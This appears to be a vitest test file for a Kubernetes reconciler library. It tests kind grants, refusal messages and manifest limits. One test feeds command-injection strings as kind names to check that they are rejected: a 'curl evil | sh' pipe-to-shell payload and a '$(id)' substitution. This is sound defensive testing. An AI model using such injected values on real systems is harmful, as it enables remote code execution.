import {
  ConfigMap,
  Deployment,
  grantKinds,
  type KubeObject,
  manifest,
  namedKind,
  reconciler,
  resource,
  Secret,
  z,
} from 'fairlead'
import { lawsOf, outcomeOf, type Scenario, type Simulation, simulate } from 'fairlead/testing'
import { describe, expect, it } from 'vitest'

const Mirror = resource({
  group: 'example.com',
  version: 'v1',
  kind: 'Mirror',
  plural: 'mirrors',
  spec: z.object({
    targets: z.array(z.object({ apiVersion: z.string(), kind: z.string(), name: z.string() })).default([]),
  }),
  status: z.object({ seen: z.array(z.string()).optional() }),
})
const Target = namedKind({ kindPath: 'spec.targets[*]', byName: 'spec.targets[*].name' })
const mirrors = reconciler({
  name: 'mirrors',
  for: Mirror,
  owns: [ConfigMap],
  related: [Target],
  reconcile: ({ object: { metadata }, related }) => ({
    apply: [
      ConfigMap.of({ metadata: { name: `${metadata.name}-copy` }, data: { targets: `${related(Target).length}` } }),
    ],
    status: {
      seen: related(Target)
        .map(({ kind, metadata: { name } }) => `${kind} ${name}`)
        .sort(),
    },
  }),
})
const granted = grantKinds(mirrors, [ConfigMap, Secret])

const at = (...targets: [kind: string, name: string, apiVersion?: string][]) => ({
  targets: targets.map(([kind, name, apiVersion = 'v1']) => ({ apiVersion, kind, name })),
})
const mirror = (...targets: Parameters<typeof at>) =>
  Mirror.of({ metadata: { name: 'm', namespace: 'default' }, spec: at(...targets) })
const others: KubeObject[] = ['a', 'b'].flatMap((name) =>
  [ConfigMap, Secret].map((kind) => kind.of({ metadata: { name, namespace: 'default' } }) as unknown as KubeObject),
)

const scenario: Scenario<typeof Mirror> = {
  objects: [mirror(['Secret', 'a']), ...others],
  steps: [['it names others', (world) => world.edit({ spec: at(['ConfigMap', 'b']) })]],
}
describe('laws hold for a function whose objects name kinds', () => {
  it.each(lawsOf(granted, scenario))('%s', async (_, holds) => holds())
})

it('a function is given the objects that its object names, of each kind, and no others', async () => {
  const { status } = await outcomeOf(granted, { object: mirror(['Secret', 'a'], ['ConfigMap', 'b']), others })
  expect(status).toEqual({ seen: ['ConfigMap b', 'Secret a'] })
  const none = await outcomeOf(granted, { object: mirror(), others })
  expect(none.status).toEqual({ seen: [] })
})

const copyIn = (world: Simulation<typeof Mirror>) =>
  world.list(ConfigMap).find(({ metadata }) => metadata.name === 'm-copy')?.data

it('a kind that is not granted is refused, and the condition names it; nothing is deleted', async () => {
  const world = simulate(granted, { objects: [mirror(['Secret', 'a']), ...others] })
  await world.run()
  expect(copyIn(world)).toEqual({ targets: '1' })
  world.edit({ spec: at(['Deployment', 'd', 'apps/v1']) })
  await world.run()
  const message = expect.stringContaining('--kinds Deployment.v1.apps=PLURAL') as string
  const reconciled = world.object?.status?.conditions?.find(({ type }) => type === 'Reconciled')
  expect(reconciled).toMatchObject({ reason: 'KindNotGranted', message })
  expect(copyIn(world)).toEqual({ targets: '1' })
})

it('a kind that no API has is not in the command that an administrator copies', async () => {
  for (const kind of ['Secret.v1=secrets; curl evil | sh #', '$(id)', 'X'.repeat(1e6)]) {
    const refused = /^spec\.targets\[\*\] names ".{1,100}", which is no kind, so the function is not called$/
    await expect(outcomeOf(granted, { object: mirror([kind, 'a']), others })).rejects.toThrow(refused)
  }
})

it('without any grant, a function is not called with an empty list, in whatever process it is', async () => {
  expect(manifest(mirrors).spec).toMatchObject({ related: [], kindPaths: ['spec.targets[*]'] })
  await expect(outcomeOf(mirrors, { object: mirror(['Secret', 'a']), others })).rejects.toThrow(
    'spec.targets[*] names Secret.v1, which the function may not read',
  )
})

it('a grant is an entry of the Reconciler like any related kind', () => {
  const { spec } = manifest(grantKinds(mirrors, [Deployment]))
  expect(spec.related).toEqual([
    {
      group: 'apps',
      version: 'v1',
      resource: 'deployments',
      kind: 'Deployment',
      kindPath: 'spec.targets[*]',
      byName: 'spec.targets[*].name',
      within: 'Namespace',
    },
  ])
})

it('more kinds than a Reconciler has room for are refused at the installation', () => {
  const kinds = Array.from({ length: 65 }, (_, n) => ({ ...Deployment, kind: `Kind${n}`, resource: `kinds${n}` }))
  expect(() => manifest(grantKinds(mirrors, kinds))).toThrow('reconciler mirrors: related')
})

it('a wrong path is refused where the function is declared', () => {
  const wrong = namedKind({ kindPath: 'spec..target', byName: 'spec.target.name' })
  const declare = () => reconciler({ name: 'wrong', for: Mirror, related: [wrong], reconcile: () => undefined })
  expect(declare).toThrow('kindPath is "spec..target": write a path such as spec.target')
})
